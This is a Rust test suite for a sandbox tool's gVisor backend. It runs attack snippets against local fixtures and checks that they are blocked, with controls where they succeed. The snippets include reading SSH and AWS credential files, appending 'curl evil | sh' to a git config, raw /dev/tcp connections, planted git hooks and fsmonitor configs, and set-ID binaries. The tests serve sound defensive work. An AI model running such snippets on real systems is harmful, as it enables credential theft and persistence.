//! The gVisor backend (`stockade run --backend gvisor`) under real attacks: secrets, writes
//! outside the workspace, protected paths, the environment, the network, limits; each with a
//! control that shows the same snippet succeeds without the protection. Runs as root (runsc
//! as root, the run's cgroup) and as an unprivileged user (`runsc --rootless`).
//!
//! Skipped, saying so, when runsc is not installed (scripts/test installs it).

#![allow(clippy::expect_used)]

use std::path::PathBuf;

use attacks::{read_json, sh_quote, which, write_file, Cmd, Fixture};

const GVISOR: &[&str] = &["--backend", "gvisor"];

/// The platform probe's cache, shared by the tests of one user (a fixture's own home would
/// make every test probe again).
fn state_dir() -> PathBuf {
    let dir = PathBuf::from(format!(
        "/var/tmp/stockade-gvisor-tests-{}",
        attacks::euid()
    ));
    std::fs::create_dir_all(&dir).expect("create the shared state directory");
    dir
}

fn runsc_missing() -> bool {
    if once_in_the_native_pass() {
        return true;
    }
    if which("runsc").is_none() && !std::path::Path::new("/usr/bin/runsc").exists() {
        eprintln!("SKIP: runsc is not installed (apt-get install runsc)");
        return true;
    }
    false
}

/// The tests here name their backend (gVisor) themselves: the native pass runs them, and a
/// pass of another backend under test would run them again unchanged. Says so, and returns
/// `true`, in such a pass.
fn once_in_the_native_pass() -> bool {
    if attacks::backend() == "native" {
        return false;
    }
    println!(
        "n/a under {}: the gVisor tests name their backend themselves (the native pass runs them)",
        attacks::backend()
    );
    true
}

/// Says why and returns `true` when runsc or a root caller is missing.
fn needs_root_and_runsc() -> bool {
    if runsc_missing() || !attacks::is_root() {
        eprintln!("SKIP: needs runsc and a root caller");
        return true;
    }
    false
}

fn with_state(cmd: Cmd) -> Cmd {
    cmd.env("XDG_STATE_HOME", state_dir())
}

/// `stockade run --backend gvisor --shell SCRIPT` in the fixture's workspace, running on while
/// the test goes on (its output piped, to be read when waited for).
fn spawn_run(fx: &Fixture, script: &str) -> std::process::Child {
    spawn_run_with(fx, &[], script)
}

/// [`spawn_run`] with more options of `stockade run`.
fn spawn_run_with(fx: &Fixture, opts: &[&str], script: &str) -> std::process::Child {
    std::process::Command::new(attacks::stockade_bin())
        .args(["run", "--backend", "gvisor"])
        .args(opts)
        .arg("--workspace")
        .arg(&fx.ws)
        .args(["--shell", script])
        .env("HOME", &fx.home)
        .env("XDG_STATE_HOME", state_dir())
        .current_dir(&fx.ws)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("start stockade")
}

/// Waits (up to 20 s) until `path` exists: the run's command has started.
fn wait_for_file(path: &std::path::Path) {
    let began = std::time::Instant::now();
    while !path.exists() && began.elapsed().as_secs() < 20 {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(
        path.exists(),
        "the command never started: no {}",
        path.display()
    );
}

fn attack(fx: &Fixture, opts: &[&str], script: &str) -> attacks::Outcome {
    let all: Vec<&str> = GVISOR.iter().chain(opts).copied().collect();
    with_state(fx.attack(&all, script)).outcome()
}

#[test]
fn runs_a_command_with_its_output_and_exit_code() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let run = with_state(fx.sandbox(GVISOR, "echo out; echo err >&2; cat; exit 7"))
        .stdin("from stdin\n")
        .run();
    run.assert_code(7)
        .assert_stdout_contains("out\nfrom stdin\n")
        .assert_stderr_contains("err\n");
}

#[test]
fn masked_secrets_are_unreadable() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    for (script, marker) in [
        (r#"cat "$HOME/.ssh/id_rsa""#, fx.marker("ssh")),
        (r#"cat "$HOME/.aws/credentials""#, fx.marker("aws")),
        ("cat .env", fx.marker("dotenv")),
        ("cat app/.env.production", fx.marker("dotenvprod")),
    ] {
        attack(&fx, &[], script).assert_blocked(&marker);
        // Control: the gVisor sandbox itself reads them when the policy does not mask them.
        let unmasked = format!("cp {} {}", sh_quote(secret_path(&fx, script)), "copy.txt");
        fx.host(&unmasked).run().assert_success();
        attack(&fx, &[], "cat copy.txt").assert_shows(&marker);
        std::fs::remove_file(fx.ws.join("copy.txt")).expect("remove the copy");
    }
}

fn secret_path(fx: &Fixture, script: &str) -> PathBuf {
    let name = script
        .trim_start_matches("cat ")
        .trim_matches('"')
        .replace("$HOME", &fx.home.to_string_lossy());
    if name.starts_with('/') {
        PathBuf::from(name)
    } else {
        fx.ws.join(name)
    }
}

#[test]
fn writes_outside_the_workspace_are_refused() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let target = fx.outside.join("target.txt");
    let script = format!("echo pwned > {}", sh_quote(&target));
    attack(&fx, &[], &script).assert_failed();
    assert_eq!(attacks::read_text(&target).as_deref(), Some("original\n"));
    attack(&fx, &[], &format!("echo x > {}/new", sh_quote(&fx.home))).assert_failed();
    assert!(!fx.home.join("new").exists());
    // Control: the same write where the policy allows it.
    let outside = fx.outside.to_string_lossy().into_owned();
    attack(&fx, &["--allow-write", &outside], &script).assert_ok();
    assert_eq!(attacks::read_text(&target).as_deref(), Some("pwned\n"));
    // And the workspace is writable, the file the caller's.
    attack(&fx, &[], "echo made > made.txt").assert_ok();
    assert_eq!(
        attacks::read_text(&fx.ws.join("made.txt")).as_deref(),
        Some("made\n")
    );
}

#[test]
fn git_internals_stay_read_only_and_planted_project_files_are_swept() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let hook = ".git/hooks/pre-commit";
    // The config is a staged copy (gitstage.rs): the append lands there, and is refused
    // after the run.
    attack(&fx, &[], "echo 'curl evil | sh' >> .git/config").assert_ok();
    assert!(!attacks::read_text(&fx.ws.join(".git/config"))
        .unwrap_or_default()
        .contains("evil"));
    let planted = format!("printf '#!/bin/sh\\necho owned\\n' > {hook} && chmod +x {hook}");
    attack(&fx, &[], &planted).assert_failed();
    assert!(attacks::live_hooks(&fx.ws).is_empty());
    // A protected name created during the run (a host-executed project file) cannot be
    // refused at the call under gVisor: the sweep after the run neutralises it, and the
    // report says so.
    let report = fx.root.join("report.json");
    let rep = report.to_string_lossy().into_owned();
    attack(
        &fx,
        &["--report", &rep],
        "mkdir .vscode && echo '{}' > .vscode/tasks.json",
    )
    .assert_ok();
    assert!(
        !fx.ws.join(".vscode/tasks.json").exists(),
        "the planted .vscode/tasks.json survived the run"
    );
    let record = read_json(&report);
    assert_eq!(record["backend"], "gvisor");
    assert_eq!(record["plan"]["landlock_rules"], 0, "{record}");
    assert!(
        attacks::json_any_string(&record["violations"], &|s| s.contains(".vscode")),
        "the report names no violation for the planted file: {record}"
    );
    assert!(
        attacks::json_any_string(&record["enforced_by"], &|s| s.contains("sweep")),
        "the report does not say what enforces what: {record}"
    );
    // Control: a plain file of the workspace is written and stays.
    attack(&fx, &[], "echo ok > notes.txt").assert_ok();
    assert!(fx.ws.join("notes.txt").exists());
}

#[test]
fn environment_is_scrubbed() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let secret = fx.marker("envsecret");
    let script = "env; cat /proc/self/environ | tr '\\0' '\\n'";
    with_state(fx.attack(GVISOR, script))
        .env("GITHUB_TOKEN", &secret)
        .outcome()
        .assert_hidden(&secret);
    // Control: passed on when asked for.
    let opts: Vec<&str> = GVISOR
        .iter()
        .copied()
        .chain(["--env", "GITHUB_TOKEN"])
        .collect();
    with_state(fx.attack(&opts, "echo $GITHUB_TOKEN"))
        .env("GITHUB_TOKEN", &secret)
        .outcome()
        .assert_shows(&secret);
}

#[test]
fn network_none_reaches_nothing_on_the_host() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen on loopback");
    let port = listener.local_addr().expect("address").port();
    std::thread::spawn(move || {
        for s in listener.incoming().flatten() {
            use std::io::Write;
            let mut s = s;
            let _ = s.write_all(b"REACHED-HOST\n");
        }
    });
    // The read is tried again: under gVisor's host network the socket can answer EAGAIN
    // before the listener's line arrives (`head: ... Resource temporarily unavailable`: the
    // control failed once in a clean-clone CI run beside another pass).
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{port} || {{ echo no-connection; exit 1; }}; \
         for i in $(seq 50); do head -c 12 <&3 2>/dev/null && exit 0; sleep 0.1; done; \
         echo no-data; exit 1"
    );
    let bash = format!("bash -c {}", sh_quote(&script));
    attack(&fx, &[], &bash).assert_blocked("REACHED-HOST");
    // Control: with the host's network the same connection is made.
    attack(&fx, &attacks::net_under("gvisor", "host"), &bash).assert_shows("REACHED-HOST");
}

#[test]
fn timeout_ends_the_run_with_124() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let started = std::time::Instant::now();
    with_state(fx.sandbox(&["--backend", "gvisor", "--timeout", "2"], "sleep 60"))
        .run()
        .assert_code(124);
    assert!(started.elapsed() < std::time::Duration::from_secs(30));
    // Control: without the limit reached, the command's own code.
    with_state(fx.sandbox(
        &["--backend", "gvisor", "--timeout", "30"],
        "sleep 0.1; exit 5",
    ))
    .run()
    .assert_code(5);
}

#[test]
fn output_limit_cuts_the_middle() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let big = "head -c 300000 /dev/zero | tr '\\0' a; echo";
    let run = with_state(fx.sandbox(&["--backend", "gvisor", "--output-limit", "64K"], big)).run();
    run.assert_success();
    assert!(
        run.stdout.len() < 80_000,
        "{} bytes passed",
        run.stdout.len()
    );
    let run = with_state(fx.sandbox(&["--backend", "gvisor", "--output-limit", "0"], big)).run();
    run.assert_success();
    assert!(run.stdout.len() > 300_000);
}

#[test]
fn a_broken_runsc_is_refused_naming_the_package() {
    if once_in_the_native_pass() {
        return;
    }
    let fx = Fixture::new();
    let dir = fx.root.join("fakebin");
    attacks::mkdir(&dir);
    write_file(
        &dir.join("runsc"),
        "#!/bin/sh\necho 'runsc: broken' >&2\nexit 1\n",
        0o755,
    );
    let run = with_state(fx.sandbox(GVISOR, "echo SHOULD-NOT-RUN"))
        .env("STOCKADE_RUNSC", dir.join("runsc"))
        .run();
    run.assert_code(125)
        .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
        .assert_stderr_contains("apt-get install runsc")
        .assert_lacks("SHOULD-NOT-RUN");
    // A runsc on PATH is never used: a directory there may be one the sandbox writes (an
    // activated virtualenv), and runsc runs outside the sandbox.
    let ran = fx.root.join("fake-runsc-ran");
    let planted = fx.ws.join(".venv/bin");
    attacks::mkdir(&planted);
    write_file(
        &planted.join("runsc"),
        format!(
            "#!/bin/sh\ntouch {}\nexec /usr/bin/runsc \"$@\"\n",
            sh_quote(&ran)
        ),
        0o755,
    );
    if !runsc_missing() {
        let path = format!("{}:/usr/bin:/bin", planted.display());
        with_state(fx.sandbox(GVISOR, "echo ran"))
            .env("PATH", path)
            .run()
            .assert_success();
        assert!(!ran.exists(), "a runsc planted on PATH was executed");
        // Named explicitly but inside the workspace: refused too.
        with_state(fx.sandbox(GVISOR, "echo ran"))
            .env("STOCKADE_RUNSC", planted.join("runsc"))
            .run()
            .assert_code(125)
            .assert_stderr_contains("which the command can write");
        assert!(!ran.exists(), "a runsc in the workspace was executed");
        // Control: the same wrapper named explicitly outside the workspace is the one run.
        let outside = fx.root.join("bin-runsc");
        attacks::mkdir(&outside);
        std::fs::copy(planted.join("runsc"), outside.join("runsc")).expect("copy the wrapper");
        with_state(fx.sandbox(GVISOR, "echo ran"))
            .env("STOCKADE_RUNSC", outside.join("runsc"))
            .run()
            .assert_success();
        assert!(
            ran.exists(),
            "the wrapper cannot run at all: the check proves nothing"
        );
    }
    // Control: the same request with the native backend runs.
    fx.sandbox(&[], "echo SHOULD-NOT-RUN")
        .run()
        .assert_success()
        .assert_stdout_contains("SHOULD-NOT-RUN");
}

#[test]
fn the_callers_streams_keep_their_owner() {
    if once_in_the_native_pass() {
        return;
    }
    // runsc as root gives its standard streams to `nobody`: stockade hands it pipes only.
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let file = fx.root.join("stdin.txt");
    write_file(&file, "input\n", 0o644);
    let owner = |p: &std::path::Path| {
        std::fs::metadata(p)
            .map(|m| std::os::unix::fs::MetadataExt::uid(&m))
            .ok()
    };
    let null_before = owner(std::path::Path::new("/dev/null"));
    let before = std::fs::metadata(&file).map(|m| std::os::unix::fs::MetadataExt::uid(&m));
    let script = format!(
        "{} run --backend gvisor --workspace {} -- cat < {}",
        sh_quote(attacks::stockade_bin()),
        sh_quote(&fx.ws),
        sh_quote(&file)
    );
    with_state(fx.host(&script)).run().assert_success();
    let after = std::fs::metadata(&file).map(|m| std::os::unix::fs::MetadataExt::uid(&m));
    assert_eq!(
        before.ok(),
        after.ok(),
        "the owner of the caller's stdin changed"
    );
    // Run once more with /dev/null as every stream of stockade's.
    with_state(fx.sandbox(GVISOR, "true"))
        .run()
        .assert_success();
    assert_eq!(
        owner(std::path::Path::new("/dev/null")),
        null_before,
        "/dev/null changed owner"
    );
}

/// A hard link to a masked credential planted in the workspace: the gofer opens files by name
/// as the host kernel does, so the run is refused as under the native backend. Control: the
/// planted name shows the secret on the host.
#[test]
fn planted_hard_link_to_a_credential_file_refuses_the_run() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    std::fs::hard_link(fx.home.join(".aws/credentials"), fx.ws.join("data.csv"))
        .expect("plant the link");
    let run = with_state(fx.sandbox(GVISOR, "cat data.csv")).run();
    run.assert_code(125)
        .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
        .assert_stderr_contains(".aws/credentials has 2 names")
        .assert_lacks(&fx.marker("aws"));
    fx.control("cat data.csv")
        .outcome()
        .assert_shows(&fx.marker("aws"));
}

/// `TMPDIR` pointing into the workspace must not put the bundle (mask sources, runsc's state,
/// which root's `runsc kill`/`delete` act on) where the command can write. Control: the
/// directory is really visible and writable inside.
#[test]
fn the_bundle_never_lies_in_a_writable_root() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let tmp = fx.ws.join("tmp");
    attacks::mkdir(&tmp);
    let script = "ls -a tmp; echo visible > tmp/written";
    let run = with_state(fx.sandbox(GVISOR, script))
        .env("TMPDIR", &tmp)
        .run();
    run.assert_success().assert_lacks("stockade-gvisor");
    assert_eq!(
        attacks::read_text(&tmp.join("written")).as_deref(),
        Some("visible\n")
    );
}

/// `--net proxy`: the command reaches an allowed host only through stockade's proxy (which
/// records it), a denied one is refused before connecting, and going around the proxy reaches
/// nothing. Control: the server is really there (the allowed request through the proxy gets
/// its marker).
#[test]
fn proxy_mode_goes_through_the_proxy_only() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let marker = fx.marker("served");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen on loopback");
    let port = listener.local_addr().expect("address").port();
    let body = marker.clone();
    std::thread::spawn(move || {
        for s in listener.incoming().flatten() {
            use std::io::{Read, Write};
            let mut s = s;
            let mut buf = [0u8; 2048];
            let _ = s.read(&mut buf);
            let reply = format!(
                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = s.write_all(reply.as_bytes());
        }
    });
    let allow = format!("127.0.0.1:{port}");
    let report = fx.root.join("proxy-report.json");
    let rep = report.to_string_lossy().into_owned();
    let opts = ["--net", "proxy", "--allow-host", &allow, "--report", &rep];
    // Through the proxy (curl follows HTTP_PROXY; `--noproxy ''`: NO_PROXY sends loopback to
    // the sandbox's own): allowed.
    let via = format!("curl -s -m 10 --noproxy '' http://127.0.0.1:{port}/");
    attack(&fx, &opts, &via).assert_shows(&marker);
    let record = read_json(&report);
    assert!(
        attacks::json_any_string(&record["network"], &|s| s == "NET_ALLOWED"),
        "the proxy did not record the request: {record}"
    );
    // Around the proxy: nothing but the proxy's loopback exists.
    let around = format!("curl -s -m 5 --noproxy '*' http://127.0.0.1:{port}/");
    attack(&fx, &opts, &around).assert_blocked(&marker);
    // A host the rules do not allow: refused by the proxy.
    attack(&fx, &opts, "curl -s -m 10 -f http://example.com/").assert_failed();
    let record = read_json(&report);
    assert!(
        attacks::json_any_string(&record["network"], &|s| s == "E_NETWORK_DENIED"),
        "no denial recorded: {record}"
    );
}

/// Set-ID bits: refused by the Sentry's seccomp filter (a set-user-ID file of a root caller's
/// workspace would make any local user root). Control: the same snippet on the host.
#[test]
fn set_id_bits_are_refused() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let script = "cp /bin/true t && chmod 4755 t; chmod g+s t; \
                  python3 -c 'import os; os.close(os.open(\"t2\", os.O_CREAT | os.O_WRONLY, 0o6755))'; \
                  python3 -c 'import os; print(oct(os.stat(\"t\").st_mode))'";
    let _ = attack(&fx, &[], script).ran();
    for name in ["t", "t2"] {
        if let Ok(m) = std::fs::metadata(fx.ws.join(name)) {
            let mode = std::os::unix::fs::PermissionsExt::mode(&m.permissions());
            assert_eq!(mode & 0o6000, 0, "{name} has set-ID bits: {mode:o}");
        }
    }
    let _ = std::fs::remove_file(fx.ws.join("t"));
    let _ = std::fs::remove_file(fx.ws.join("t2"));
    fx.control(script).outcome().assert_shows("0o106755\n");
}

/// A root caller's command runs as an unprivileged id inside the Sentry: root's files outside
/// the masks stay unreadable (it owned every root file when it ran as uid 0 there, found by
/// review), while the workspace is its own through an idmapped view and what it makes belongs
/// to the workspace's owner on disk. Control: the file is readable on the host.
#[test]
fn a_root_callers_command_owns_the_workspace_and_nothing_of_root() {
    if needs_root_and_runsc() {
        return;
    }
    let fx = Fixture::new();
    let secret = fx.root.join("rootonly.txt");
    write_file(&secret, fx.marker("rootonly"), 0o600);
    let read = format!("cat {}", sh_quote(&secret));
    attack(&fx, &[], &read).assert_blocked(&fx.marker("rootonly"));
    fx.control(&read)
        .outcome()
        .assert_shows(&fx.marker("rootonly"));
    attack(
        &fx,
        &[],
        "echo made > made.txt && mkdir -p sub && echo x > sub/y",
    )
    .assert_ok();
    for p in ["made.txt", "sub", "sub/y"] {
        let m = std::fs::metadata(fx.ws.join(p)).expect("made");
        assert_eq!(
            std::os::unix::fs::MetadataExt::uid(&m),
            0,
            "{p} is not root's on disk"
        );
    }
}

/// A read grant below a cover (a root caller's workspace and grant below a 0700 directory)
/// exchanged for a symbolic link to a directory only root may read, after the mount
/// destinations were checked and right before runsc's mount namespace is prepared (debug
/// builds pause there while `STOCKADE_TEST_GVISOR_PAUSE_LATE` names a file; red team of
/// issue 33): the grant's idmapped view is opened without following a link, so the run is
/// refused as a changed path (`E_SANDBOX_SETUP`) and root's file never shows (followed, the
/// view would have given root's directory to the command's id). Control: the host follows
/// the same link to the file.
#[test]
fn a_read_grant_swapped_for_a_link_before_the_start_shows_nothing_of_roots() {
    if needs_root_and_runsc() {
        return;
    }
    let fx = Fixture::new();
    let private = fx.root.join("private");
    attacks::mkdir(&private);
    attacks::chmod(&private, 0o700);
    let ws = private.join("ws");
    let grant = private.join("grant");
    attacks::mkdir(&ws);
    attacks::mkdir(&grant);
    write_file(&grant.join("notes.txt"), "granted\n", 0o644);
    let rootonly = fx.root.join("rootonly");
    attacks::mkdir(&rootonly);
    attacks::chmod(&rootonly, 0o700);
    let marker = fx.marker("rootonly");
    write_file(&rootonly.join("notes.txt"), &marker, 0o600);
    let read = format!("cat {}", sh_quote(grant.join("notes.txt")));
    let run = || {
        with_state(fx.stockade([
            "run".as_ref(),
            "--backend".as_ref(),
            "gvisor".as_ref(),
            "--workspace".as_ref(),
            ws.as_os_str(),
            "--allow-read".as_ref(),
            grant.as_os_str(),
            "--shell".as_ref(),
            read.as_ref(),
        ]))
        .cwd(&ws)
    };
    // The grant as planned is read.
    run()
        .run()
        .assert_success()
        .assert_stdout_contains("granted");
    let done = run().run_paused(
        "STOCKADE_TEST_GVISOR_PAUSE_LATE",
        &fx.root.join("paused"),
        || {
            std::fs::rename(&grant, private.join("grant.orig")).expect("move the grant aside");
            std::os::unix::fs::symlink(&rootonly, &grant)
                .expect("link the grant to root's directory");
        },
    );
    done.assert_code(125)
        .assert_stderr_contains("E_SANDBOX_SETUP")
        .assert_stderr_contains("symbolic link");
    assert!(
        !done.all_output().contains(&marker),
        "root's file was read through the swapped grant:\n{}",
        done.describe()
    );
    // Control: the host follows the link to root's file.
    fx.control(&read).outcome().assert_shows(&marker);
}

/// `mv .git` is refused under gVisor as natively (`EBUSY`: a pinned git dir is a mount point,
/// see `the_state_directorys_ancestors_cannot_be_renamed` in home_workspace.rs). A nested
/// repository's unpinned parent can still be renamed (`mv sub subold`; the host kernel allows
/// that too, the native creation guard then refuses the new `.git`): a new `sub/.git` made at
/// the old name, with a config that runs code, is quarantined after the run, the original
/// moved back and the swap reported (found by review). Control: the same snippet on the host
/// leaves the planted config in place.
#[test]
fn a_git_dir_swapped_during_the_run_is_quarantined() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    attack(&fx, &[], "mv .git .gitold").assert_failed();
    assert!(
        !fx.ws.join(".gitold").exists(),
        "the pinned .git was renamed"
    );
    fx.git_host(&["clone", "-q", ".", "sub"]).assert_success();
    let script = "mv sub subold && mkdir -p sub/.git/hooks \
                  && printf '[core]\\n\\tfsmonitor = echo owned\\n' > sub/.git/config";
    let report = fx.root.join("swap.json");
    let rep = report.to_string_lossy().into_owned();
    attack(&fx, &["--report", &rep], script).assert_ok();
    let config = attacks::read_text(&fx.ws.join("sub/.git/config")).unwrap_or_default();
    assert!(
        !config.contains("fsmonitor"),
        "the planted config is live: {config}"
    );
    // The original repository is back at its name.
    assert!(
        !fx.ws.join("subold/.git").exists(),
        "the original was not moved back"
    );
    fx.git_host(&["-C", "sub", "log", "--oneline"])
        .assert_success()
        .assert_stdout_contains("initial");
    let record = read_json(&report);
    assert!(
        attacks::json_any_string(&record["violations"], &|s| s == "protected_path_replaced"),
        "no violation: {record}"
    );
    let fx = Fixture::new();
    fx.git_host(&["clone", "-q", ".", "sub"]).assert_success();
    fx.control(script).outcome().assert_ok();
    let config = attacks::read_text(&fx.ws.join("sub/.git/config")).unwrap_or_default();
    assert!(
        config.contains("fsmonitor"),
        "the control did not plant the config"
    );
}

/// `.git` renamed away, a hook planted in the original, a `.git` file left at the name (found
/// by review: the restore quarantined the `.git` file, moved the original back, and the hook's
/// quarantine path then ran into that file, so the hook stayed and host git ran it as the
/// caller): the rename is now refused (`EBUSY`: the pinned `.git` is a mount point), nothing
/// is planted, and host git runs no hook. Control: the same snippet on the host, and
/// `git checkout -b` runs the hook.
#[test]
fn a_hook_planted_behind_a_git_file_is_not_left_armed() {
    if runsc_missing() {
        return;
    }
    // A repository without a hooks directory (a clone made without templates).
    let fixture = || {
        let fx = Fixture::new();
        std::fs::remove_dir_all(fx.ws.join(".git/hooks")).expect("remove .git/hooks");
        fx
    };
    let fx = fixture();
    let pwned = fx.root.join("PWNED");
    let script = format!(
        "mv .git .old && mkdir .old/hooks && printf '#!/bin/sh\\nid > {}\\n' > .old/hooks/post-checkout \
         && chmod 755 .old/hooks/post-checkout && echo junk > .git",
        sh_quote(&pwned)
    );
    attack(&fx, &[], &script).assert_failed();
    assert!(!fx.ws.join(".old").exists(), "the pinned .git was renamed");
    assert!(
        attacks::live_hooks(&fx.ws).is_empty(),
        "live hooks after the run: {:?}",
        attacks::live_hooks(&fx.ws)
    );
    let _ = fx.git_host(&["checkout", "-q", "-b", "x"]);
    assert!(!pwned.exists(), "host git ran the planted hook");

    let first = pwned;
    let fx = fixture();
    let pwned = fx.root.join("PWNED");
    let script = script.replace(&sh_quote(&first), &sh_quote(&pwned));
    fx.control(&script).outcome().assert_ok();
    std::fs::remove_file(fx.ws.join(".git")).expect("the control's .git file");
    std::fs::rename(fx.ws.join(".old"), fx.ws.join(".git")).expect("the control's git dir");
    let _ = fx.git_host(&["checkout", "-q", "-b", "x"]);
    assert!(pwned.exists(), "control: host git did not run the hook");
}

/// A secret file of the caller's that the caller made unreadable (mode 000), masked by the
/// policy (found by review: `runsc --rootless` cannot mount over a path its caller cannot
/// open, so the mask was dropped, and the command, uid 0 inside mapped to the caller, made it
/// readable again): the run is refused or the secret stays out of reach. Control: on the host
/// the owner makes it readable again and reads it.
#[test]
fn an_unreadable_masked_file_of_the_callers_stays_out_of_reach() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let secret = fx.marker("dotenv");
    attacks::chmod(&fx.ws.join(".env"), 0o000);
    let script = "chmod 644 .env; cat .env";
    let run = with_state(fx.sandbox(GVISOR, script)).run();
    run.assert_lacks(&secret);
    if !attacks::is_root() {
        run.assert_code(125)
            .assert_stderr_contains("masking under runsc --rootless")
            .assert_stderr_contains("chmod u+r");
    }
    fx.control(script).outcome().assert_shows(&secret);
}

/// SIGTERM to stockade during a run (found by review: it used to end stockade alone, leaving
/// the container running, unswept and unrecorded): the command is ended, what it planted is
/// swept, and nothing runs after. Control: without the signal the command runs on and
/// writes its late file.
#[test]
fn a_signal_to_stockade_ends_the_container_and_the_run_is_swept() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    let script = |pause: u32| format!("echo pwn > .envrc; sleep {pause}; echo after > late");
    let start = |pause: u32| spawn_run(&fx, &script(pause));
    let child = start(20);
    let began = std::time::Instant::now();
    wait_for_file(&fx.ws.join(".envrc"));
    // SAFETY: kill(2) with integer arguments; the pid is our own child, not yet waited for.
    let sent = unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) };
    assert_eq!(sent, 0, "signal stockade");
    let out = child.wait_with_output().expect("wait for stockade");
    assert!(
        began.elapsed().as_secs() < 15,
        "the run did not end soon after the signal"
    );
    assert_eq!(
        out.status.code(),
        Some(143),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !fx.ws.join(".envrc").exists(),
        "the planted .envrc was not swept"
    );
    std::thread::sleep(std::time::Duration::from_secs(1));
    assert!(
        !fx.ws.join("late").exists(),
        "the command ran on after the run ended"
    );
    // Control.
    let out = start(1).wait_with_output().expect("wait for stockade");
    assert_eq!(out.status.code(), Some(0));
    assert!(
        fx.ws.join("late").exists(),
        "the control did not run to its end"
    );
}

/// Git's own paths outside a `.git` directory (found by review): a missing `core.hooksPath`
/// directory, a missing `include.path` target, the hooks and `config.worktree` of a git dir
/// made with `--separate-git-dir`. The creation guard refuses them at the call under native;
/// under gVisor they are quarantined after the run. Control: on the host the same snippet
/// leaves them, and git runs the hook.
#[test]
fn git_paths_outside_dot_git_made_during_the_run_are_quarantined() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    fx.git_host(&["config", "include.path", "../local.gitconfig"])
        .assert_success();
    fx.git_host(&["config", "core.hooksPath", ".githooks"])
        .assert_success();
    let ran = fx.root.join("hook-ran");
    let script = format!(
        "printf '[user]\\n\\tname = x\\n' > local.gitconfig; mkdir .githooks; \
         printf '#!/bin/sh\\ntouch {}\\n' > .githooks/post-checkout; chmod 755 .githooks/post-checkout",
        sh_quote(&ran)
    );
    let _ = attack(&fx, &[], &script).ran();
    assert!(
        !fx.ws.join(".githooks").exists(),
        "the hooks directory survived"
    );
    assert!(
        !fx.ws.join("local.gitconfig").exists(),
        "the include target survived"
    );
    fx.git_host(&["checkout", "-q", "-b", "after-run"])
        .assert_success();
    assert!(!ran.exists(), "git ran a hook the run planted");
    // Control.
    fx.control(&script).outcome().assert_ok();
    fx.git_host(&["checkout", "-q", "-b", "control"])
        .assert_success();
    assert!(
        ran.exists(),
        "the control's hook did not run: the check proves nothing"
    );
}

/// A root caller's gVisor run holds its workspace's lock: another run of the same workspace
/// waits until it has ended, so that no sandbox can change the mount points of a gVisor run
/// about to start (runsc's file server, root, would create or follow them: found by review).
/// Control: a run of another workspace does not wait.
#[test]
fn a_gvisor_run_keeps_other_runs_of_its_workspace_waiting() {
    if needs_root_and_runsc() {
        return;
    }
    let fx = Fixture::new();
    let other = Fixture::new();
    let long = spawn_run(&fx, "touch started; sleep 3");
    wait_for_file(&fx.ws.join("started"));
    // Control: another workspace runs at once.
    let t = std::time::Instant::now();
    other.sandbox(&[], "true").run().assert_success();
    let other_took = t.elapsed();
    // The same workspace (native or gVisor) waits for the gVisor run.
    let t = std::time::Instant::now();
    fx.sandbox(&[], "true").run().assert_success();
    let same_took = t.elapsed();
    let out = long.wait_with_output().expect("the long run");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        same_took > other_took + std::time::Duration::from_millis(1000),
        "the run of the same workspace did not wait: {same_took:?} vs {other_took:?}"
    );
}

/// More masks than runsc starts a sandbox with (a run can plant 250 dotenv files for the next,
/// now even below `.git`, red team issue 32d): refused before anything starts, typed, with
/// what to do, never runsc's own "cannot read client sync file". Controls: the same workspace
/// under the native backend runs with every file masked; 40 of them under gVisor run too.
#[test]
fn more_masks_than_runsc_takes_are_refused_typed() {
    if runsc_missing() {
        return;
    }
    let fx = Fixture::new();
    for i in 0..240 {
        write_file(&fx.ws.join(format!(".git/junk/d{i}/.env")), "x\n", 0o644);
    }
    let run = with_state(fx.sandbox(GVISOR, "echo started")).run();
    run.assert_code(125)
        .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
        .assert_stderr_contains("runsc starts no sandbox")
        .assert_stderr_contains("--backend native")
        .assert_lacks("started");
    fx.sandbox(
        &["--backend", "native"],
        "cat .git/junk/d7/.env; echo started",
    )
    .run()
    .assert_success()
    .assert_stdout_contains("started");
    std::fs::remove_dir_all(fx.ws.join(".git/junk")).unwrap();
    for i in 0..40 {
        write_file(&fx.ws.join(format!("d{i}/.env")), "x\n", 0o644);
    }
    with_state(fx.sandbox(GVISOR, "echo started"))
        .run()
        .assert_success()
        .assert_stdout_contains("started");
}

/// An existing git dir's top level is a staged copy during a gVisor run (gitstage.rs): git's
/// rename of `config.lock` over `config` works inside, and after the run an inert change (with
/// a commit and a new branch) is on the host; a live key is refused, the host's config kept
/// and the run's version moved aside, and git on the host runs nothing; a `commondir` planted
/// at the top is swept; a name the host changed too during the run keeps the host's version.
